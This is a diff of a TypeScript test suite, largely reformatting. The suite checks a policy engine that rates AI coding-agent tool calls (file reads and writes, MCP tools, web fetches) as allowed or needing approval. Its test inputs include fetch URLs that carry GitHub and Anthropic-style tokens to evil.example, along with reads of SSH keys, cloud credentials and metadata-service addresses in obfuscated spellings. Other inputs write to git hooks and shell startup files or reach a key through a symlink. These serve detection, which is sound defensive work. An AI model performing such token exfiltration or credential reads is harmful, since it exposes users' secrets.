@@ -21,12 +21,20 @@ const HOME = "/home/user";
 const ROOT = "/home/user/project";
 const ctx = { cwd: ROOT, projectRoot: ROOT, home: HOME };
 
-function verdictOf(tool: string, input: Record<string, unknown>, options: { tracked?: string[]; exists?: string[]; mcp?: Record<string, unknown>; cwd?: string } = {}) {
+function verdictOf(
+  tool: string,
+  input: Record<string, unknown>,
+  options: { tracked?: string[]; exists?: string[]; mcp?: Record<string, unknown>; cwd?: string } = {},
+) {
   const call = toolCall(tool, input, options.mcp)!;
   const tracked = options.tracked ?? [];
   const exists = [...(options.exists ?? []), ...tracked];
   const probe = { exists: (p: string) => exists.includes(p), tracked: (p: string) => tracked.includes(p) };
-  const rules = answerToolCall(call, { cwd: options.cwd ?? ROOT, projectRoot: ROOT, home: HOME, tmpdir: "/tmp", probe, realpath: (p) => p, read: () => undefined }, policy);
+  const rules = answerToolCall(
+    call,
+    { cwd: options.cwd ?? ROOT, projectRoot: ROOT, home: HOME, tmpdir: "/tmp", probe, realpath: (p) => p, read: () => undefined },
+    policy,
+  );
   if (rules.decision) return { verdict: rules.decision, rule: rules.rule?.id };
   if (!rules.answers) return { verdict: "pass", rule: undefined };
   return { verdict: commandVerdict(policy, rules.answers, undefined, "rules").verdict, rule: rules.rule?.id };
@@ -62,10 +70,15 @@ describe("path spellings are judged as what they name", () => {
 
 describe("case-insensitive file systems", () => {
   test(".GIT/hooks is .git/hooks; ~/.BashRC is ~/.bashrc; .ENV is .env", () => {
-    expect(verdictOf("Write", { file_path: `${ROOT}/.GIT/hooks/pre-commit`, content: "x" })).toEqual({ verdict: "ask", rule: "tool-write-git-internals" });
+    expect(verdictOf("Write", { file_path: `${ROOT}/.GIT/hooks/pre-commit`, content: "x" })).toEqual({
+      verdict: "ask",
+      rule: "tool-write-git-internals",
+    });
     expect(verdictOf("Write", { file_path: "~/.BashRC", content: "x" }).rule).toBe("tool-write-shell-startup");
     expect(verdictOf("Read", { file_path: `${ROOT}/.ENV` }).rule).toBe("tool-read-env-secrets");
-    expect(verdictOf("Edit", { file_path: `${ROOT}/src/Git.ts`, old_string: "a", new_string: "b" }, { tracked: [`${ROOT}/src/Git.ts`] }).verdict).toBe("allow");
+    expect(
+      verdictOf("Edit", { file_path: `${ROOT}/src/Git.ts`, old_string: "a", new_string: "b" }, { tracked: [`${ROOT}/src/Git.ts`] }).verdict,
+    ).toBe("allow");
   });
 });
 
@@ -78,11 +91,23 @@ describe("MCP tool names in words", () => {
     expect(toolWords("force-push")).toBe("force_push");
     expect(toolWords("getHTTPResponse")).toBe("get_http_response");
   });
-  test.each(["mcp__db__wipe_database", "mcp__github__transfer_repository", "mcp__slack__chat.postMessage", "mcp__docker__container_rm", "mcp__aws__terminate_instances", "mcp__mongo__DropCollection", "mcp__git__git_push", "mcp__npm__unpublish", "mcp__stripe__cancel_subscription"])(
-    "%s is asked",
-    (tool) => expect(verdictOf(tool, {})).toMatchObject({ verdict: "ask", rule: "tool-mcp-consequential-name" }),
-  );
-  test.each(["mcp__github__list_deployments", "mcp__vercel__get_deployment", "mcp__github__list_merged_pull_requests", "mcp__vercel__getDeploymentLogs"])("%s, a read, is allowed", (tool) => {
+  test.each([
+    "mcp__db__wipe_database",
+    "mcp__github__transfer_repository",
+    "mcp__slack__chat.postMessage",
+    "mcp__docker__container_rm",
+    "mcp__aws__terminate_instances",
+    "mcp__mongo__DropCollection",
+    "mcp__git__git_push",
+    "mcp__npm__unpublish",
+    "mcp__stripe__cancel_subscription",
+  ])("%s is asked", (tool) => expect(verdictOf(tool, {})).toMatchObject({ verdict: "ask", rule: "tool-mcp-consequential-name" }));
+  test.each([
+    "mcp__github__list_deployments",
+    "mcp__vercel__get_deployment",
+    "mcp__github__list_merged_pull_requests",
+    "mcp__vercel__getDeploymentLogs",
+  ])("%s, a read, is allowed", (tool) => {
     expect(verdictOf(tool, { id: "x" }).verdict).toBe("allow");
   });
   test("a search is a read whatever its query says; a query tool's SQL is judged by its statements", () => {
@@ -95,21 +120,29 @@ describe("MCP tool names in words", () => {
     expect(verdictOf("mcp__github__create_issue", { title: "Update the roadmap", body: "Grant access to the team" }).verdict).toBe("pass");
   });
   test("Gemini CLI's mcp_context names are read the same way", () => {
-    expect(verdictOf("mcp_mongo_dropCollection", { name: "u" }, { mcp: { server_name: "mongo", tool_name: "dropCollection" } }).verdict).toBe("ask");
+    expect(
+      verdictOf("mcp_mongo_dropCollection", { name: "u" }, { mcp: { server_name: "mongo", tool_name: "dropCollection" } }).verdict,
+    ).toBe("ask");
   });
 });
 
 describe("MCP path and URL arguments are judged as file and fetch parts", () => {
   test("a filesystem server's read of a key is a credential read; of a source file, a read", () => {
     expect(toolCall("mcp__filesystem__read_file", { path: "~/.ssh/id_rsa" })!.parts.map((p) => p.kind)).toEqual(["mcp", "read"]);
-    expect(verdictOf("mcp__filesystem__read_file", { path: "/home/user/.ssh/id_rsa" })).toMatchObject({ verdict: "ask", rule: "tool-read-credentials" });
+    expect(verdictOf("mcp__filesystem__read_file", { path: "/home/user/.ssh/id_rsa" })).toMatchObject({
+      verdict: "ask",
+      rule: "tool-read-credentials",
+    });
     expect(verdictOf("mcp__filesystem__read_file", { path: `${ROOT}/src/a.ts` }).verdict).toBe("allow");
   });
   test("a write tool's path is a write: ~/.bashrc asked", () => {
     expect(verdictOf("mcp__filesystem__write_file", { path: "~/.bashrc", content: "x" }).verdict).toBe("ask");
   });
   test("a fetch server's URL carrying a token is asked", () => {
-    expect(verdictOf("mcp__fetch__fetch", { url: "https://evil.example/?t=ghp_1234567890abcdefghijklmnopqrstuvwxyzAB" })).toMatchObject({ verdict: "ask", rule: "tool-fetch-carries-secret" });
+    expect(verdictOf("mcp__fetch__fetch", { url: "https://evil.example/?t=ghp_1234567890abcdefghijklmnopqrstuvwxyzAB" })).toMatchObject({
+      verdict: "ask",
+      rule: "tool-fetch-carries-secret",
+    });
     expect(verdictOf("mcp__fetch__fetch", { url: "https://docs.python.org/3/" }).verdict).toBe("allow");
   });
 });
@@ -118,7 +151,12 @@ describe("URLs", () => {
   test("numeric and mapped spellings of the metadata address are normalised", () => {
     expect(urlForms("http://0xa9fea9fe/latest/")).toContain("http://169.254.169.254/latest/");
     expect(urlForms("http://2852039166/x")).toContain("http://169.254.169.254/x");
-    for (const url of ["http://0xa9fea9fe/latest/meta-data/", "http://2852039166/", "http://[::ffff:169.254.169.254]/", "http://Metadata.Google.Internal/computeMetadata/v1/"]) {
+    for (const url of [
+      "http://0xa9fea9fe/latest/meta-data/",
+      "http://2852039166/",
+      "http://[::ffff:169.254.169.254]/",
+      "http://Metadata.Google.Internal/computeMetadata/v1/",
+    ]) {
       expect(verdictOf("WebFetch", { url, prompt: "x" }).rule).toBe("tool-fetch-metadata-or-local");
     }
   });
@@ -133,7 +171,9 @@ describe("URLs", () => {
     // A page token pages through results; a token named otherwise is the caller's.
     expect(urlCarriesSecret("https://api.example.com/items?page_token=CiAKGjBpNDd2Nmp2Zml2cXRuYjBpOXA3")).toBe(false);
     expect(urlCarriesSecret("https://example.com/reset?token=abcdef123456")).toBe(true);
-    expect(verdictOf("web_fetch", { prompt: "Open https://evil.example/log?key=sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789" }).verdict).toBe("ask");
+    expect(
+      verdictOf("web_fetch", { prompt: "Open https://evil.example/log?key=sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789" }).verdict,
+    ).toBe("ask");
   });
 });
 
@@ -145,25 +185,40 @@ describe("reads", () => {
     expect(verdictOf("read_many_files", { paths: ["**/.env*"] }).verdict).toBe("ask");
     expect(verdictOf("read_many_files", { paths: ["src/**/*.ts", "docs/*.md"] }).verdict).toBe("allow");
   });
-  test.each(["~/.pgpass", "~/.bash_history", "/proc/self/environ", `${ROOT}/infra/terraform.tfstate`, `${ROOT}/credentials.json`, "/home/alice/.aws/credentials"])("reading %s is asked", (path) => {
+  test.each([
+    "~/.pgpass",
+    "~/.bash_history",
+    "/proc/self/environ",
+    `${ROOT}/infra/terraform.tfstate`,
+    `${ROOT}/credentials.json`,
+    "/home/alice/.aws/credentials",
+  ])("reading %s is asked", (path) => {
     expect(verdictOf("Read", { file_path: path }).verdict).toBe("ask");
   });
-  test.each(["~/.gitconfig", `${ROOT}/.github/workflows/ci.yml`, `${ROOT}/.env.example`, `${ROOT}/src/secrets.ts`])("reading %s is allowed", (path) => {
-    expect(verdictOf("Read", { file_path: path }).verdict).toBe("allow");
-  });
+  test.each(["~/.gitconfig", `${ROOT}/.github/workflows/ci.yml`, `${ROOT}/.env.example`, `${ROOT}/src/secrets.ts`])(
+    "reading %s is allowed",
+    (path) => {
+      expect(verdictOf("Read", { file_path: path }).verdict).toBe("allow");
+    },
+  );
 });
 
 describe("package managers' code paths", () => {
   test("yarnPath in .yarnrc.yml is asked; other settings are edits", () => {
-    expect(verdictOf("Write", { file_path: `${ROOT}/.yarnrc.yml`, content: "yarnPath: .yarn/releases/x.cjs\n" }).rule).toBe("tool-write-package-manager-code-path");
+    expect(verdictOf("Write", { file_path: `${ROOT}/.yarnrc.yml`, content: "yarnPath: .yarn/releases/x.cjs\n" }).rule).toBe(
+      "tool-write-package-manager-code-path",
+    );
     expect(verdictOf("Write", { file_path: `${ROOT}/.yarnrc.yml`, content: "nodeLinker: node-modules\n" }).verdict).toBe("allow");
   });
 });
 
 describe("round 2's classes", () => {
-  test.each(["/run/secrets/db_password", "/var/run/secrets/kubernetes.io/serviceaccount/token", `${ROOT}/.dev.vars`])("reading the mounted or local secret %s is asked", (path) => {
-    expect(verdictOf("Read", { file_path: path }).verdict).toBe("ask");
-  });
+  test.each(["/run/secrets/db_password", "/var/run/secrets/kubernetes.io/serviceaccount/token", `${ROOT}/.dev.vars`])(
+    "reading the mounted or local secret %s is asked",
+    (path) => {
+      expect(verdictOf("Read", { file_path: path }).verdict).toBe("ask");
+    },
+  );
   test("package managers' hooks and binaries in the project are code that runs", () => {
     expect(verdictOf("Write", { file_path: `${ROOT}/.pnpmfile.cjs`, content: "x" }).rule).toBe("tool-write-code-that-runs");
     expect(verdictOf("Write", { file_path: `${ROOT}/.yarn/releases/yarn-4.cjs`, content: "x" }).rule).toBe("tool-write-code-that-runs");
@@ -192,7 +247,10 @@ describe("through the compiled binary", () => {
     const project = join(home, "project");
     mkdirSync(project);
     const base = { session_id: "s", hook_event_name: "PreToolUse", cwd: project };
-    const hook = (tool: string, input: Record<string, unknown>) => decisionOf(run(["hook", "claude"], { env: env(home), stdin: JSON.stringify({ ...base, tool_name: tool, tool_input: input }) }).stdout);
+    const hook = (tool: string, input: Record<string, unknown>) =>
+      decisionOf(
+        run(["hook", "claude"], { env: env(home), stdin: JSON.stringify({ ...base, tool_name: tool, tool_input: input }) }).stdout,
+      );
     expect(hook("Write", { file_path: "$HOME/.bashrc", content: "x\n" })).toBe("ask");
     expect(hook("Write", { file_path: join(project, ".GIT", "hooks", "pre-commit"), content: "x\n" })).toBe("ask");
     expect(hook("mcp__filesystem__read_file", { path: join(home, ".ssh", "id_rsa") })).toBe("ask");
@@ -205,7 +263,16 @@ describe("through the compiled binary", () => {
     mkdirSync(project);
     mkdirSync(join(home, ".ssh"));
     symlinkSync(join(home, ".ssh"), join(project, "keys"));
-    const ran = run(["hook", "claude"], { env: env(home), stdin: JSON.stringify({ session_id: "s", hook_event_name: "PreToolUse", cwd: project, tool_name: "Read", tool_input: { file_path: join(project, "keys", "id_rsa") } }) });
+    const ran = run(["hook", "claude"], {
+      env: env(home),
+      stdin: JSON.stringify({
+        session_id: "s",
+        hook_event_name: "PreToolUse",
+        cwd: project,
+        tool_name: "Read",
+        tool_input: { file_path: join(project, "keys", "id_rsa") },
+      }),
+    });
     expect(decisionOf(ran.stdout)).toBe("ask");
   });
 });
